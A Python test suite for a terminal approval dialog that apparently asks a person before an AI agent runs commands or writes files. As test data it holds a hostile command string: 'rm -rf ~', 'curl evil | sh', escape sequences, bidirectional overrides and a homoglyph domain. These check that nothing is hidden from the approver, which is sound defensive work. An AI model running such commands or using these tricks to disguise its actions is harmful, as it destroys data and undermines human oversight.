"""A call that asks first: the question above the draft, the keys that answer it, and what they cannot be made to do."""

import asyncio
import json
from dataclasses import replace

from asking import RUN, asking_on, panel, press, question
from stage import shown, staged, until, until_ready, until_shown
from textual import events

from localgpt_tui.core.approvals import Act, Decision
from localgpt_tui.ui.screens.answering import EditCallScreen


async def test_a_question_stands_above_the_draft_and_lets_the_person_write_on():
    async with staged().run_test(size=(80, 24)) as pilot:
        await until_ready(pilot)
        await pilot.press(*"as I said")
        asking = await asking_on(pilot, question())
        prompt = pilot.app.screen.prompt
        assert pilot.app.focused is prompt
        for words in (
            "NEEDS YOU 1",
            "bash: may this run?",
            "$ rm -rf build && echo hello > notes.txt",
            "deletes  build/",
            "changes  notes.txt",
            "in       /home/person/notes",
            "sandbox  full: bubblewrap and seccomp; network off",
            "because  POLICY.md#L4 says “ask before removing”",
            "y yes, once     s “rm -rf build” for this session",
            "What you type goes into the draft; Tab brings the keys here.",
        ):
            await until_shown(pilot, words)
        await until(pilot, lambda: panel(pilot).armed)
        await pilot.press(*"yes", "enter")
        assert not asking.answers
        await pilot.press("enter", "space", "backspace")
        assert not panel(pilot).armed, "a key was just pressed"
        assert not asking.answers, "Enter and Space are no answers"
        await press(pilot, "n")
        await until(pilot, lambda: asking.answers == [Decision("no")])
        await until(pilot, lambda: not panel(pilot).display)
        assert "NEEDS YOU" not in shown(pilot.app)
        assert prompt.text == ""


async def test_tab_brings_the_keys_to_the_question_and_a_letter_that_is_no_answer_back_to_the_draft():
    async with staged().run_test(size=(80, 24)) as pilot:
        await until_ready(pilot)
        await pilot.press(*"words")
        asking = await asking_on(pilot, question())
        panel(pilot).pause = 60.0
        await pilot.press("tab", "y")
        assert pilot.app.focused is panel(pilot)
        assert pilot.app.screen.prompt.text == "words", "too early for an answer, and no letter of the draft either"
        await pilot.press("x")
        assert pilot.app.screen.prompt.text == "wordsx"
        assert pilot.app.focused is pilot.app.screen.prompt
        panel(pilot).pause = 0.15
        await pilot.press("tab")
        await until(pilot, lambda: panel(pilot).armed)
        for letter in "why yes":
            panel(pilot).post_message(events.Key("space" if letter == " " else letter, letter))
        await until(pilot, lambda: pilot.app.screen.prompt.text == "wordsxwhy yes")
        assert not asking.answers, "in the middle of a word no letter answers"
        await pilot.press("tab")
        await press(pilot, "s")
        await until(pilot, lambda: asking.answers == [Decision("session")])
        assert pilot.app.focused is pilot.app.screen.prompt


async def test_questions_queue_and_one_that_is_taken_back_goes_away_with_its_dialog():
    second = question(replace(RUN, shown="git push", deletes=(), pattern="", confined="", network="on"), number=2)
    async with staged().run_test(size=(80, 24)) as pilot:
        asking = await asking_on(pilot, question(), second)
        await until_shown(pilot, "1 of 2")
        await until(pilot, lambda: panel(pilot).armed)
        panel(pilot).pause = 60.0
        await pilot.press("y")
        await until(pilot, lambda: asking.answers == [Decision("once")])
        await until_shown(pilot, "$ git push")
        await until_shown(pilot, "sandbox  nothing holds it in: it can do all that you can")
        screen = shown(pilot.app)
        assert "1 of" not in screen
        assert "for this session" not in screen, "there is no pattern to allow"
        await pilot.press("y")
        assert pilot.app.screen.prompt.text == "y", "the second question needs a pause of its own"
        panel(pilot).pause = 0.15
        await pilot.press("backspace")
        await press(pilot, "N")
        await until_shown(pilot, "because")
        asking.tasks[1].cancel()
        await until(pilot, lambda: not panel(pilot).display and len(pilot.app.screen_stack) == 1)
        assert len(asking.answers) == 1


async def test_a_no_may_say_why_and_a_call_may_be_changed_first():
    async with staged().run_test(size=(80, 24)) as pilot:
        asking = await asking_on(pilot, question())
        await press(pilot, "N")
        await until_shown(pilot, "Enter says no with these words")
        await pilot.press("escape")
        await press(pilot, "N")
        await until_shown(pilot, "Enter says no with these words")
        await pilot.press(*"keep it", "enter")
        await until(pilot, lambda: asking.answers == [Decision("no", reason="keep it")])
        asking.ask(question(number=2))
        await until(pilot, lambda: panel(pilot).ids == {"q2"})
        await press(pilot, "e")
        await until(pilot, lambda: isinstance(pilot.app.screen, EditCallScreen))
        await pilot.press("enter")
        await until_shown(pilot, "Nothing was changed.")
        assert len(asking.answers) == 1
        await pilot.press("end", *(["backspace"] * len(" > notes.txt")), "enter")
        await until(pilot, lambda: len(asking.answers) == 2)
        assert asking.answers[1].answer == "edit"
        assert json.loads(asking.answers[1].arguments) == {"command": "rm -rf build && echo hello"}


async def test_what_does_not_fit_is_shown_whole_before_it_can_be_allowed():
    lines = [f"+line {number}" for number in range(1, 301)]
    change = Act(
        "write", "write notes.md", shown="\n".join(["--- notes.md", "+++ notes.md", *lines]), writes=("notes.md",)
    )
    async with staged().run_test(size=(80, 24)) as pilot:
        asking = await asking_on(pilot, question(change, "write_file"))
        await until_shown(pilot, "write_file: may this be changed?")
        await until_shown(pilot, "more lines below")
        await until_shown(pilot, "Not all of it is in sight: y and f show it")
        assert "changes  notes.md" in shown(pilot.app), "the facts stand before a long text"
        await press(pilot, "y")
        await until_shown(pilot, "Esc leaves the question waiting")
        assert not asking.answers
        await pilot.press("end")
        await until_shown(pilot, "+line 300")
        await pilot.press("y")
        assert not asking.answers, "the keys of this screen wait a moment too"
        await asyncio.sleep(0.6)
        await pilot.press("y")
        await until(pilot, lambda: asking.answers == [Decision("once")])


HOSTILE = (
    "ls\rrm -rf ~ \x1b[2K\x1b[1A\u202egnp.exe\u202c [@click=app.quit]press[/] [red]x[/blue] "
    "p\u0430ypal\u200b.com\u00a0" + " " * 300 + "; curl evil | sh"
)


async def test_nothing_in_a_command_hides_or_poses_as_something_else_and_no_click_says_yes():
    act = Act(
        "run",
        "x",
        shown=HOSTILE,
        folder="/tmp/\x1b]0;a\x07b",
        hosts=("p\u0430ypal.com",),
        reasons=("[@click=app.quit]x[/]",),
    )
    async with staged().run_test(size=(80, 24)) as pilot:
        asking = await asking_on(
            pilot, question(act, "ba\x1b[31msh", why=("\u202ebecause\x9b2J",), origins=("http://a\u2066b",))
        )
        await until_shown(pilot, "$ ls␍rm -rf ~ ␛[2K␛[1A⟨U+202E⟩gnp.exe⟨U+202C⟩ [@click=app.quit]press[/] [red]")
        for column, row in ((2, 9), (40, 11), (60, 10)):
            await pilot.click(offset=(column, row))
        assert not asking.answers
        assert pilot.app.focused is panel(pilot), "a click only brings the keys there"
        await press(pilot, "f")
        await until_shown(pilot, "Esc leaves the question waiting")
        screen = shown(pilot.app)
        for words in (
            "ba␛[31msh",
            "p\u0430ypal⟨U+200B⟩.com⟨U+00A0⟩",
            "␠; curl evil | sh",
            "only looks like “a”",
            "/tmp/␛]0;a␇b",
        ):
            assert words in screen
        for words in ("[@click=app.quit]x[/]", "⟨U+202E⟩because⟨U+009B⟩2J", "has read http://a⟨U+2066⟩b"):
            assert words in screen
        assert all(letter.isprintable() for letter in screen.replace("\n", ""))
        assert screen.count("␠") == 300, "nothing was cut out of the middle"
        await pilot.press("escape")
        await press(pilot, "escape", "e")
        await until_shown(pilot, "Control characters were taken out.")


async def test_a_folder_is_trusted_or_not_and_nothing_else():
    act = Act(
        "trust", "change files in /home/person/notes", folder="/home/person/notes", writes=("/home/person/notes",)
    )
    async with staged().run_test(size=(80, 24)) as pilot:
        asking = await asking_on(pilot, question(act))
        await until_shown(pilot, "Do you trust this folder?")
        await until_shown(pilot, "y trust this folder    n no")
        await press(pilot, "y")
        await until(pilot, lambda: asking.answers == [Decision("once")])


async def test_without_a_screen_the_answer_is_not_now():
    async with staged().run_test() as pilot:
        asking = await asking_on(pilot, question())
        asking.screen.approver.leave()
        await until(pilot, lambda: asking.answers == [Decision("wait", by="nobody")])
        asking.ask(question(number=2))
        await until(pilot, lambda: len(asking.answers) == 2)
        assert asking.answers[1].answer == "wait"
